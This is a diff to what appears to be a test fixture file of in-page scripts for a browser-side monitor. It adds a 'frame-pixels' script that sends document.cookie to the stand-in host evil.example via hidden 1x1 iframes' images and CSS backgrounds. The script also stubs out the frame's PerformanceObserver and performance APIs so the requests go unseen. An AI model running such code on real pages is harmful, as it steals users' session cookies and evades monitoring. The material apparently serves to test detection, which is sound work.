@@ -1566,6 +1566,34 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.appendChild(embed);
 })();`,
 
+  /**
+   * The cookie sent by loads of same-origin frames Saq's scripts do not run in, made by the frame's own parser or
+   * style: no hook wraps them, and they are on the frame's timeline, not the page's. The frames are shown (1×1):
+   * a hidden one's document is not laid out, and its CSS backgrounds are never fetched.
+   */
+  'frame-pixels': `(() => {
+  const at = (name) => 'https://evil.example/' + name + '?c=' + encodeURIComponent(document.cookie);
+  const frame = (srcdoc) => {
+    const frame = document.createElement('iframe');
+    frame.width = frame.height = '1';
+    if (srcdoc !== undefined) frame.srcdoc = srcdoc;
+    document.body.appendChild(frame);
+    return frame;
+  };
+  frame('<img src="' + at('f-srcdoc-img.gif') + '">');
+  frame('<style>body { background: url("' + at('f-srcdoc-css.gif') + '"); }</style>.');
+  const blank = frame();
+  blank.contentDocument.body.style.background = 'url("' + at('f-blank-css.gif') + '")';
+  blank.contentDocument.body.textContent = '.';
+  // Blinded first: the frame's timeline API made to show nothing, then a document loaded into the same window.
+  const blinded = frame();
+  const win = blinded.contentWindow;
+  win.PerformanceObserver = function PerformanceObserver() { return { observe() {}, disconnect() {} }; };
+  Object.defineProperty(win.PerformanceEntry.prototype, 'name', { get: () => 'about:blank' });
+  Object.defineProperty(win, 'performance', { value: {} });
+  blinded.srcdoc = '<img src="' + at('f-blinded-img.gif') + '">';
+})();`,
+
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
   'srcdoc-frame': `(() => {
   const frame = document.createElement('iframe');
